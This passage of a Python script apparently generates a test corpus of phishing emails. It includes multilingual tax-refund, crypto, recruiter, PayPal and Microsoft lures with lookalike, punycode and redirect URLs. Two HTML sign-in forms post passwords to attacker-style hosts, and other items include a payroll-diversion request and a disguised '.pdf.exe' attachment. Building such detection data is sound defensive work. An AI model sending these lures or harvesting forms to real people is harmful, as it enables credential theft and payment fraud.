          subject="Ihre Steuererstattung 2025 – Bestätigung erforderlich", date=d,
          msgid="<elster.20261109094017.44172903@elster-portal-de.com>",
          received=[rcv("mx.elster-portal-de.com", "109.107.182.12", d, "4RdC8s0Nm2z")], dkim_domain="elster-portal-de.com",
          extra=[("MIME-Version", "1.0"), ("Content-Language", "de")],
          text="Mein ELSTER – Ihr Online-Finanzamt\n\nSehr geehrte Steuerpflichtige,\n\nnach Prüfung Ihrer Einkommensteuererklärung 2025 steht Ihnen "
               "eine Erstattung in Höhe von 612,40 € zu.\n\nUm die Auszahlung zu veranlassen, bestätigen Sie bitte Ihre Bankverbindung und Ihre "
               f"Identität innerhalb von 5 Tagen:\n{url}\n\nNach Ablauf der Frist verfällt der Anspruch auf Auszahlung für das laufende Quartal.\n\n"
               "Mit freundlichen Grüßen\nIhr Finanzamt\n")


def p29_impots() -> None:
    d = when(11, 15, "10:55:39", "+0100")
    url = "https://impots-gouv-fr.remboursement-dgfip.com/espace/particulier/?ref=FR2025-4417"
    build("phish/29_impots_remboursement.eml", frm="impots.gouv.fr <ne-pas-repondre@dgfip-remboursement.fr.com>",
          subject="Remboursement d'impôt : dernier rappel avant clôture", date=d,
          msgid="<dgfip.rmb.20261115105539@dgfip-remboursement.fr.com>",
          received=[rcv("smtp.dgfip-remboursement.fr.com", "176.113.115.46", d, "4RfK2q9Lc7z")], dkim_domain="dgfip-remboursement.fr.com",
          extra=[("MIME-Version", "1.0"), ("Content-Language", "fr")],
          text="Direction générale des Finances publiques\n\nMadame, Monsieur,\n\nSuite au recalcul de votre impôt sur le revenu 2025, un "
               "remboursement de 347,80 € a été validé en votre faveur.\n\nPour recevoir ce montant, merci de confirmer vos coordonnées bancaires "
               f"dans votre espace particulier avant le 20 novembre :\n{url}\n\nPassé ce délai, la somme sera reversée au Trésor public.\n\n"
               "La DGFiP\n")


def p30_binance_withdrawal() -> None:
    d = when(11, 22, "02:37:54")
    url = "https://binance-security-center.com/en/my/security/withdrawal-cancel?id=8820413771&u=" + PRIYA_B64
    build("phish/30_binance_withdrawal.eml", frm="Binance <do-not-reply@binance-security-center.com>",
          subject="[Binance] Withdrawal Requested – 0.4412 BTC", date=d,
          msgid="<20261122023754.8820413771@binance-security-center.com>",
          received=[rcv("mail.binance-security-center.com", "45.155.205.93", d, "4Rj9Wq4Xn1z")], dkim_domain="binance-security-center.com",
          extra=[("MIME-Version", "1.0")],
          text="Withdrawal Requested\n\nYou've requested to withdraw 0.4412 BTC from your Binance account.\n\n"
               "Withdrawal address: bc1q9h7x2ml4r0vzqk3c8tn5yw6p1s0dj4f7ga2e3u\nNetwork: BTC\nTime: 2026-11-22 02:37:11 (UTC)\nIP: 91.219.236.41 (Lagos, NG)\n\n"
               f"If you didn't make this request, cancel the withdrawal and secure your account immediately:\n{url}\n\n"
               "Risk warning: Cryptocurrency trading is subject to high market risk.\n\nBinance Team\n")


def p31_linkedin_message() -> None:
    d = when(11, 18, "19:20:06")
    url = "https://linkedin.com-messaging.info/inbox/thread/2-MTQ0YjdhNmQ?trk=eml-msg&u=" + PRIYA_B64
    build("phish/31_fake_linkedin_message.eml", frm="LinkedIn <messages-noreply@linkedin-mail.com>",
          subject="Sarah Whitcombe sent you a new message", date=d,
          msgid="<1718269044.8821.1763493606000@linkedin-mail.com>",
          received=[rcv("mta1.linkedin-mail.com", "103.151.103.12", d, "4RhS5r0Tk9z")], dkim_domain="linkedin-mail.com",
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:-apple-system,Helvetica,Arial,sans-serif\"><table width=\"512\"><tr><td>"
               "<img src=\"https://static.licdn.com/aero-v1/sc/h/9ehe6n39fa07dc5edzv0rla4e\" alt=\"LinkedIn\" height=\"24\">"
               "<p>Sarah Whitcombe<br><span style=\"color:#666\">Partner, Executive Search at Harrow &amp; Vane</span></p>"
               "<p>\"Hi Priya, I'm leading a confidential CFO-track search for a PE-backed logistics group in Dublin and your background is "
               "a strong match. I've shared the role brief here - could we talk this week?\"</p>"
               f"<p><a href=\"{url}\" style=\"background:#0a66c2;color:#fff;padding:8px 16px;border-radius:16px;text-decoration:none\">Reply</a> "
               f"<a href=\"{url}&view=1\">View message</a></p>"
               "<p style=\"font-size:11px;color:#999\">This email was intended for Priya Natarajan. © 2026 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.</p>"
               "</td></tr></table></body></html>")


def p32_meta_copyright() -> None:
    d = when(11, 14, "13:02:40")
    url = "https://meta-business-appeals.netlify.app/case/ZB-44172903?page=northwindtrading"
    build("phish/32_instagram_copyright.eml", frm="Meta Business Support <appeals.noreply.meta.case4417@gmail.com>",
          subject="Your Instagram account @northwind.trading will be disabled: copyright infringement report", date=d,
          msgid="<CAPq5t8sY1xL2mZ0kR9vW3nN4yA6fG5jB1cE2uD@mail.gmail.com>",
          received=[rcv("mail-yw1-f170.google.com", "209.85.128.170", d, "4RfD4n8Zp0z", helo="mail-yw1-f170.google.com")],
          dkim_domain="gmail.com", extra=[("MIME-Version", "1.0")],
          text="Meta for Business\n\nYour account @northwind.trading has been reported for using copyrighted content without permission (Case #ZB-44172903).\n\n"
               "Under our Community Standards, accounts that receive a copyright report must file an appeal within 24 hours, otherwise the "
               "account will be permanently disabled.\n\n"
               f"If you believe this is a mistake, submit an appeal: {url}\n\nMeta Platforms, Inc., Attention: Community Support, 1 Hacker Way, Menlo Park, CA 94025\n")


def p33_job_offer_download() -> None:
    d = when(11, 20, "14:18:33")
    url = "https://harrowvane-careers.com/download/Offer_Package_PNatarajan.zip"
    build("phish/33_job_offer_download.eml", frm="Sarah Whitcombe <s.whitcombe@harrowvane-careers.com>",
          subject="Offer package – Group Financial Controller (confidential)", date=d,
          msgid="<9d2f1c0b8a7e6d5c@harrowvane-careers.com>",
          received=[rcv("mail.harrowvane-careers.com", "198.51.100.180", d, "4RhT0b3Wm8z")], dkim_domain="harrowvane-careers.com",
          extra=[("MIME-Version", "1.0")],
          text="Dear Priya,\n\nThank you for your time on Tuesday. I'm pleased to tell you that our client would like to move ahead with an offer for "
               "the Group Financial Controller position (base €165,000 + 25% bonus + LTIP).\n\n"
               f"The offer package, compensation details and NDA are here:\n{url}\n\n"
               "For confidentiality the documents are in a protected viewer: please open 'Offer_Viewer.exe' in the package and enter code HV-2290.\n\n"
               "Please review and return the signed NDA by Friday.\n\nBest regards,\nSarah Whitcombe\nPartner, Harrow & Vane Executive Search\n")


def p34_google_docs_comment() -> None:
    d = when(11, 25, "15:40:11")
    lure = "https://northwind-payroll.sh-review.xyz/doc/verify?e=" + PRIYA_B64
    build("phish/34_google_docs_comment_abuse.eml", frm="\"Payroll Team (Google Docs)\" <comments-noreply@docs.google.com>",
          subject="Document shared with you: \"2027 Salary Review - Northwind (Confidential)\"", date=d,
          msgid="<TfvL2mZ3kP8sW1rN4yD6fG5jA2cE9uK-0@docs.google.com>",
          received=[rcv("mail-sor-f73.google.com", "209.85.220.73", d, "4RkT7a2Qp1z")], dkim_domain="docs.google.com",
          extra=[("Reply-To", "Payroll Team <payroll.team.nw@gmail.com>"), ("MIME-Version", "1.0")],
          text="Payroll Team mentioned you in a comment in the following document\n\n2027 Salary Review - Northwind (Confidential)\n\n"
               f"Payroll Team: @priya.natarajan@northwind.example Your 2027 salary adjustment letter is ready. Sign in to view and acknowledge before Friday: {lure}\n\n"
               "Reply\nhttps://docs.google.com/document/d/1Xq3vLm9sT2pKc7Rz0aB1wE4yN6uH8jF5dGzQw/edit?disco=AAABf2kZ1Qo&usp=comment_email_document\n\n"
               "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n"
               "You have received this email because you are mentioned in this thread. Change what Google Docs sends you: https://docs.google.com/document/u/0/?tab=settings\n")


def p35_dropbox_compromised() -> None:
    d = when(11, 19, "17:02:48")
    build("phish/35_dropbox_compromised_account.eml", frm="Camille Duret via Dropbox <no-reply@dropbox.com>",
          subject="Camille Duret shared \"Kestrel - Rate Card 2027 & Contract\" with you", date=d,
          msgid="<em.4417290315.20261119170248@dropbox.com>",
          received=[rcv("mail-a45.dropbox.com", "162.125.8.45", d, "4RhP2c6Lt0z")], dkim_domain="dropbox.com",
          extra=[("Reply-To", "camille.duret@kestrel-logistics.example"), ("MIME-Version", "1.0")],
          text="Camille Duret shared a folder with you\n\nKestrel - Rate Card 2027 & Contract\n\n"
               "\"Priya, the 2027 rate card and updated contract are in the folder. View the PDF 'Rate_Card_2027.pdf' - it opens the secure "
               "viewer, sign in with your company email to access.\"\n\n"
               "Go to folder: https://www.dropbox.com/scl/fo/4x8q1mz9v2kt7l3/AA7vLm9sT2pKc7Rz0aB1wE4y?rlkey=p2k9x1qz&dl=0\n\n"
               "Enjoy!\nThe Dropbox team\n")


def p36_open_redirect() -> None:
    d = when(11, 26, "07:55:20")
    dest = "https://m365-mailbox-storage.online/owa/?login=" + PRIYA_B64
    from urllib.parse import quote
    url = "https://www.google.com/url?q=" + quote(dest, safe="") + "&sa=D&source=editors&ust=1764230400000000&usg=AOvVaw1Xq3vLm9sT2pKc7Rz0aB1w"
    build("phish/36_google_open_redirect_mailbox.eml", frm="Mail Administrator <postmaster@fernhill-dental.example>",
          subject="priya.natarajan@northwind.example: mailbox storage 99% full – 14 incoming messages on hold", date=d,
          msgid="<1a2b3c4d5e6f7a8b9c0d@fernhill-dental.example>",
          received=[rcv("cpanel41.hostingsrv.example", "192.0.2.41", d, "4RkX0d9Nb6z", helo="fernhill-dental.example")],
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:Segoe UI,Arial\"><p><b>Microsoft Outlook</b></p>"
               "<p>Your mailbox priya.natarajan@northwind.example has reached 99% of its storage limit (49.6 GB of 50 GB).</p>"
               "<p>14 incoming messages are on hold and will be returned to sender after 24 hours.</p>"
               f"<p><a href=\"{url}\" style=\"background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none\">Release messages &amp; increase storage</a></p>"
               "<div style=\"background:#ddd;width:300px\"><div style=\"background:#c50f1f;width:297px;height:8px\"></div></div>"
               "<p style=\"font-size:11px;color:#888\">© 2026 Microsoft Corporation. All rights reserved.</p></body></html>")


def p37_punycode() -> None:
    d = when(11, 17, "20:31:09")
    # xn--rvolut-3of.com is 'rеvolut.com' with a Cyrillic 'е'
    url = "https://business.xn--rvolut-3of.com/signin?continue=%2Fcards%2Fverify"
    build("phish/37_revolut_punycode.eml", frm="Revolut Business <no-reply@xn--rvolut-3of.com>",
          subject="Your corporate card •• 8813 has been restricted", date=d,
          msgid="<0102019a3e1c7d20-7a8b9c0d-1e2f-3a4b-5c6d-7e8f9a0b1c2d-000000@xn--rvolut-3of.com>",
          received=[rcv("mail.xn--rvolut-3of.com", "185.234.216.59", d, "4RgV8n1Yb2z")], dkim_domain="xn--rvolut-3of.com",
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:Inter,Arial,sans-serif\"><p>Hi Priya,</p>"
               "<p>We've temporarily restricted your corporate card •• 8813 after detecting unusual payments at two merchants.</p>"
               "<p>To restore the card, confirm the recent transactions in Revolut Business within 24 hours:</p>"
               f"<p><a href=\"{url}\" style=\"background:#191c1f;color:#fff;padding:10px 20px;border-radius:20px;text-decoration:none\">Review transactions</a></p>"
               "<p style=\"font-size:11px;color:#8b959e\">Revolut Ltd is registered in England and Wales (No. 08804411), 30 South Colonnade, Canary Wharf, London, E14 5HX.</p>"
               "</body></html>")


def p38_paypal_subdomain() -> None:
    d = when(11, 16, "11:46:28")
    url = "https://www.paypal.com.secure-check.info/signin/?country.x=IE&locale.x=en_IE&case=PP-D-44172903"
    build("phish/38_paypal_subdomain_trick.eml", frm="PayPal <service@paypal-resolution.info>",
          subject="Action needed: we've limited your account", date=d,
          msgid="<20261116114628.PPD44172903@paypal-resolution.info>",
          received=[rcv("mail.paypal-resolution.info", "77.91.124.55", d, "4RgD1e7Kr4z")], dkim_domain="paypal-resolution.info",
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:Helvetica,Arial\"><img src=\"https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg\" height=\"28\" alt=\"PayPal\">"
               "<p>Hello Priya Natarajan,</p><p>We noticed unusual activity on your PayPal account and have limited what you can do with it until "
               "we hear from you. Case ID: PP-D-44172903.</p><p>Please log in and confirm your information within 72 hours.</p>"
               f"<p><a href=\"{url}\" style=\"background:#0070e0;color:#fff;padding:10px 22px;border-radius:20px;text-decoration:none\">Log in to PayPal</a></p>"
               f"<p>Or copy this link: {url}</p>"
               "<p style=\"font-size:11px;color:#666\">Copyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A.</p></body></html>")


def p39_html_form_attachment() -> None:
    d = when(11, 13, "12:09:52")
    logo = base64.b64encode(png_logo("Microsoft", 108, 24)).decode()
    htm = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><title>Sign in to your account</title>"
           "<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;padding:40px}"
           "input{width:100%;padding:6px;margin:8px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 30px}</style></head><body>"
           f"<div class=\"box\"><img src=\"data:image/png;base64,{logo}\" alt=\"Microsoft\"><h2>Sign in</h2>"
           "<p>Your session expired. Sign in to view <b>Purchase_Order_PO-88412.pdf</b></p>"
           "<form method=\"POST\" action=\"https://fernhill-dental.example/wp-content/plugins/akismet/_inc/next.php\">"
           "<input type=\"email\" name=\"login\" value=\"priya.natarajan@northwind.example\" readonly>"
           "<input type=\"password\" name=\"passwd\" placeholder=\"Password\" required>"
           "<button type=\"submit\">Sign in</button></form></div></body></html>\n").encode()
    build("phish/39_html_form_attachment.eml", frm="Purchasing | Anatolia Tekstil <purchasing@anatolia-tekstil.example>",
          subject="PO-88412 – please confirm prices", date=d,
          msgid="<20261113120952.PO88412@anatolia-tekstil.example>",
          received=[rcv("mail.anatolia-tekstil.example", "192.0.2.140", d, "4RfB6r0Hm3z")],
          extra=[("MIME-Version", "1.0")],
          text="Hello Priya,\n\nPlease see attached PO-88412 and confirm prices and availability. The document is secured, sign in with your email to open.\n\n"
               "Best Regards\nMehmet Yilmaz\n",
          attachments=[(htm, "text", "html", "PO-88412.html")])


def p40_data_url() -> None:
    d = when(11, 27, "06:12:30")
    page = ("<html><body style=\"font-family:Arial\"><h3>Webmail - session verification</h3>"
            "<form action=\"https://owa-verify.cfd-mail.top/s.php\" method=\"post\"><input name=\"u\" value=\"priya.natarajan@northwind.example\">"
            "<input name=\"p\" type=\"password\"><input type=\"submit\" value=\"Verify\"></form></body></html>")
    url = "data:text/html;base64," + b64(page)
    build("phish/40_data_url_webmail.eml", frm="Webmail Support <support@mail-quota-notice.top>",
          subject="Password expiry notice: priya.natarajan@northwind.example", date=d,
          msgid="<pw.expiry.4417@mail-quota-notice.top>",
          received=[rcv("mail-quota-notice.top", "45.137.21.9", d, "4RkZ5v3Ld1z")], dkim_domain="mail-quota-notice.top",
          extra=[("MIME-Version", "1.0")],
          html="<html><body><p>Dear priya.natarajan,</p><p>The password for your email account expires today. To keep using the same password, "
               f"verify it below.</p><p><a href=\"{url}\">Keep Same Password</a></p><p>Northwind Webmail Support</p></body></html>")


def p41_esp_tracking_redirect() -> None:
    d = when(11, 18, "14:26:03")
    from urllib.parse import quote
    dest = "https://wetransfer-download.online/d/northwind/2f9c1a?email=" + PRIYA_B64
    url = "https://u4417290.ct.sendgrid.net/ls/click?upn=" + quote(b64(dest), safe="") + "-2BzQ7x"
    build("phish/41_sendgrid_redirect_wetransfer.eml", frm="WeTransfer <noreply@wetransfer-notify.com>",
          subject="Hannah Oyelaran sent you 3 files via WeTransfer", date=d,
          msgid="<Q7x2vL0mZ3kP8sW1rN4yD6fG5j@wetransfer-notify.com>",
          received=[rcv("o4417.ptr.sendgrid.net", "149.72.44.17", d, "4RhL3m6Xp9z")], dkim_domain="sendgrid.net",
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:Helvetica,Arial\"><h2>Hannah Oyelaran<br>sent you 3 files</h2>"
               "<p>3 files · 48.2 MB · Expires in 6 days</p><p>\"Board pack drafts, please check before Thursday.\"</p>"
               f"<p><a href=\"{url}\" style=\"background:#409fff;color:#fff;padding:12px 30px;border-radius:20px;text-decoration:none\">Get your files</a></p>"
               "<p>Board_Pack_Q4.pdf<br>FY27_Budget.xlsx<br>Cap_Table_2027.pdf</p>"
               "<p style=\"font-size:11px;color:#999\">To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.</p></body></html>")


def p42_mfa_qr_pdf() -> None:
    d = when(11, 24, "10:10:10")
    import io
    import time

    from PIL import Image
    qr = qr_png("https://mfa-setup-nw.online/authenticator/enroll?u=" + PRIYA_B64, scale=4)
    # the QR as a page image inside a PDF, as the lure documents are printed
    img = Image.open(io.BytesIO(qr)).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "PDF", resolution=72, title="Authenticator", creationDate=time.gmtime(1795514282), modDate=time.gmtime(1795514282))
    build("phish/42_mfa_qr_pdf.eml", frm="Microsoft Authenticator <security-noreply@ms-authenticator-update.com>",
          subject="Mandatory: re-register Microsoft Authenticator by 28/11 (document attached)", date=d,
          msgid="<mfa.4417.20261124101010@ms-authenticator-update.com>",
          received=[rcv("mail.ms-authenticator-update.com", "213.209.150.18", d, "4RkO9a5Vy3z")], dkim_domain="ms-authenticator-update.com",
          extra=[("MIME-Version", "1.0")],
          text="Hello Priya,\n\nYour Microsoft Authenticator registration must be renewed before 28/11/2026. Open the attached document and scan the "
               "QR code with your phone to complete the re-registration.\n\nIT Security\n",
          attachments=[(buf.getvalue(), "application", "pdf", "Authenticator_Reregistration_PNatarajan.pdf")])


def p43_payroll_diversion() -> None:
    """Payroll diversion: an 'employee' asks HR to change her salary account, with a new bank form."""
    d = when(11, 21, "18:02:44", "+0000")
    form = xlsx([["Employee direct deposit change form"], ["Name", "Priya Natarajan"], ["New IBAN", "IE29 AIBK 9311 5244 1729 03"],
                 ["Effective", "Next payroll"]], sheet="Form")
    build("phish/43_payroll_diversion.eml", frm="Priya Natarajan <priya.natarajan.nw@outlook.com>",
          to="Northwind Payroll <payroll@northwind.example>",
          subject="Change of direct deposit before this month's payroll", date=d,
          msgid="<DU0P194MB1544C2E3F4A5B6C7D8E9F0A1B2C3@DU0P194MB1544.EURP194.PROD.OUTLOOK.COM>",
          received=[rcv("mail-db8eur05olkn2044.outbound.protection.outlook.com", "40.92.89.44", d, "4RjA4q2Tx7z")],
          dkim_domain="outlook.com", extra=[("Cc", "Priya Natarajan <priya.natarajan@northwind.example>"), ("MIME-Version", "1.0")],
          text="Hi,\n\nI've changed banks and would like my salary paid into my new account from this month's payroll. "
               "I filled in the form, attached. I'm on leave so writing from my personal email.\n\nThanks a lot,\nPriya\n",
          attachments=[(form, "application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Direct_Deposit_Form.xlsx")])


def p44_exe_in_zip_parcel() -> None:
    d = when(11, 16, "06:41:03", "+0100")
    z = zip_of([("GLS_Zustellnachweis_ZN88213.pdf.exe", exe_bytes())])
    build("phish/44_gls_zip_exe.eml", frm="GLS Paket <info@gls-paketdienst.net>",
          subject="Zustellung fehlgeschlagen – Paket ZN88213447", date=d,
          msgid="<gls.ZN88213447.20261116064103@gls-paketdienst.net>",
          received=[rcv("mail.gls-paketdienst.net", "141.98.10.61", d, "4RfT0c8Pw5z")], dkim_domain="gls-paketdienst.net",
          extra=[("MIME-Version", "1.0"), ("Content-Language", "de")],
          text="Guten Tag,\n\nleider konnten wir Ihr Paket ZN88213447 heute nicht zustellen. Den Zustellnachweis und das Formular für eine neue "
               "Zustellung finden Sie im Anhang. Bitte innerhalb von 3 Tagen ausfüllen.\n\nIhr GLS Team\n",
          attachments=[(z, "application", "zip", "GLS_ZN88213447.zip")])
